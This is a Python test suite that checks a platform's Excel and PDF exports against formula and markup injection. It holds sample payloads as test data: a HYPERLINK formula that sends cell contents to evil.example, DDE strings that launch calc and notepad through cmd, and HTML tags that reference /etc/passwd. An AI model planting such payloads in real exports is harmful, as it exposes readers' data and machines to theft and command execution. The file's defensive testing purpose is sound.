"""What goes out cannot attack its reader (issue 25 point 5): every spreadsheet cell the
platform writes is neutralised by core.sheets, and user text reaches ReportLab escaped."""

from __future__ import annotations

import io
import types

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from yangguang.conformance import excel as conformance_excel
from yangguang.core import sheets
from yangguang.flows.catalogue import render_xlsx
from yangguang.flows.pdf import render_catalogue
from yangguang.flows.selectors import CatalogueRow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C notepad'!'B1'",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)


@given(first=st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), rest=TEXT)
def test_a_neutralised_cell_never_starts_a_formula_and_restores(first, rest):
    safe = sheets.cell(first + rest)
    assert safe[0] not in "=+-@\t\r"
    assert sheets.restore(safe) == first + rest


@given(value=st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.dates()))
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert sheets.cell(value) == value


def test_lazy_translations_are_cells_of_text():
    from django.utils.translation import gettext_lazy

    assert sheets.cell(gettext_lazy("单位")) == "单位"


def _cells(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))  # not read-only: data_type tells a formula
    return [c for ws in wb.worksheets for line in ws.iter_rows() for c in line if c.value]


def test_risk_catalogue_excel_holds_text_not_formulas():
    risk = {
        "step": HOSTILE[0], "description": HOSTILE[1], "grade": "A", "likelihood": "高",
        "impact": "高", "responsible": HOSTILE[2],
        "measures": [{"description": HOSTILE[3], "owner": HOSTILE[4], "status": HOSTILE[5]}],
    }  # fmt: skip
    rows = [CatalogueRow("=某局", "XK1", HOSTILE[6], "行政许可", 1, "A", "", [risk])]
    cells = _cells(render_xlsx(rows))
    assert_text_not_formulas(cells)
    texts = {c.value for c in cells}
    for hostile in HOSTILE[:6]:  # (a carriage return does not survive the XML as it was)
        assert hostile in texts and "'" + hostile not in texts


def assert_text_not_formulas(cells) -> None:
    """No formula; a text that starts like one is a text cell with Excel's hidden quote
    prefix (no visible ' in front of it)."""
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[0] in "=+-@\t\r"]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_conformance_export_holds_text_not_formulas():
    finding = types.SimpleNamespace(
        case_id=HOSTILE[0], kind="wrong_order", activity=HOSTILE[1], event_index=3,
        department=HOSTILE[2], person=HOSTILE[4], detail=HOSTILE[3],
    )  # fmt: skip
    findings = types.SimpleNamespace(iterator=lambda chunk_size: iter([finding]))
    run = types.SimpleNamespace(
        log_name='=HYPERLINK("http://evil.example","log.csv")', process="流程图",
        summary={"cases": 1, "events": 2, "deviations": {"wrong_order": 1}},
    )  # fmt: skip
    cells = _cells(conformance_excel.export(run, findings))
    assert_text_not_formulas(cells)
    assert run.log_name in {c.value for c in cells}


def test_risk_texts_reach_the_pdf_as_text():
    risk = {
        "step": "<b>未闭合", "description": '<img src="/etc/passwd"/> <a href="http://evil.example">点</a>',
        "grade": "A", "likelihood": "高", "impact": "高", "responsible": "</para>&",
        "measures": [{"description": "<font size=90>大</font>", "owner": "<br", "status": "<"}],
    }  # fmt: skip
    rows = [CatalogueRow("<i>某局", "XK1", "许可<", "行政许可", 1, "A", "", [risk])]
    pdf = render_catalogue(rows)  # markup in these texts used to raise (a 500)
    assert pdf.startswith(b"%PDF")
    assert b"/URI" not in pdf and b"/Subtype /Image" not in pdf


def test_pdf_text_escapes_markup_and_keeps_lines():
    assert sheets.pdf_text("<b>a & b</b>\nc") == "&lt;b&gt;a &amp; b&lt;/b&gt;<br/>c"
    assert sheets.pdf_text(None) == ""


@settings(deadline=None)  # a workbook written and read per example
@given(value=st.text(st.characters(blacklist_categories=("Cs",)), max_size=30))
def test_xlsx_cells_read_back_as_written(value):
    """Whatever the text, the workbook gives back what ``restore`` turns into it, never a
    formula, and a leading quote only where the text itself starts with one."""
    wb = Workbook()
    sheets.append(wb.active, [value, "x"])
    buf = io.BytesIO()
    wb.save(buf)
    cell = load_workbook(io.BytesIO(buf.getvalue())).active["A1"]
    expected = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")
    assert cell.data_type != "f"
    assert sheets.restore(cell.value or "") == expected or not expected.strip()
    if cell.value and not expected.startswith("'"):
        assert cell.value == expected


def test_exports_print_like_official_lists():
    """A3 landscape, one page wide, the header repeated, borders and the Chinese font."""
    from yangguang.powers.excel import writer

    item = {
        "code": "XK00001000", "name": "食品经营许可", "parent_code": "",
        "type": {"code": "XK", "name": "行政许可"},
        "implementing_body": {"code": "D1", "name": "某局"}, "legal_bases": [],
        "responsibilities": [], "accountabilities": [], "statutory_limit": None,
        "promised_limit": None, "remarks": "",
    }  # fmt: skip
    risk = {
        "step": "受理", "description": "d", "grade": "A", "likelihood": "高", "impact": "高",
        "responsible": "r", "measures": [],
    }  # fmt: skip
    finding = types.SimpleNamespace(
        case_id="1", kind="wrong_order", activity="a", event_index=3, department="d",
        person="p", detail="x",
    )  # fmt: skip
    run = types.SimpleNamespace(log_name="log.csv", process="流程图", summary={})
    books = {
        "powers": (writer.workbook_bytes([item], "某局权力清单"), "$2:$3", 4),
        "catalogue": (render_xlsx([CatalogueRow("某局", "XK1", "许可", "行政许可", 1, "A", "", [risk])]), "$2:$2", 3),
        "conformance": (
            conformance_excel.export(run, types.SimpleNamespace(iterator=lambda chunk_size: iter([finding]))),
            "$1:$1", 2,
        ),
    }  # fmt: skip
    for name, (data, titles, first_data) in books.items():
        ws = load_workbook(io.BytesIO(data)).worksheets[0]
        setup = ws.page_setup
        assert (setup.paperSize, setup.orientation) == (8, "landscape"), name
        assert ws.sheet_properties.pageSetUpPr.fitToPage, name
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), name
        assert ws.print_title_rows == titles, name
        cell = ws.cell(first_data, 1)
        assert cell.font.name == sheets.FONT, name
        assert cell.border.left.style == cell.border.bottom.style == "thin", name
        assert ws.cell(first_data - 1, 3).font.bold, name  # the header
